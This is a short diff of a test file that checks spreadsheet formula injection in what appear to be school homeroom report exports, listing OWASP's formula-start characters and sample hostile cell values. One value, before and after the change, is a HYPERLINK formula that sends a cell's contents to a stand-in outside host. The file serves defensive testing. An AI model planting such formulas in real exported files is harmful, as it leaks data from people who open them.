@@ -21,7 +21,7 @@ from tests.reports.conftest import record_homeroom
 # OWASP's list: what a spreadsheet program reads as the start of a formula or DDE call.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 NAMES = {
-    "code": '=HYPERLINK("https://evil.example/?leak="&A1,"Absent")',
+    "code": '=HYPERLINK("https://x.example/?"&A1,"Absent")',  # (a label holds 50 characters)
     "teacher": "=SUM(1,1)",
     "student": "=2+3",
     "class": "-1+1",
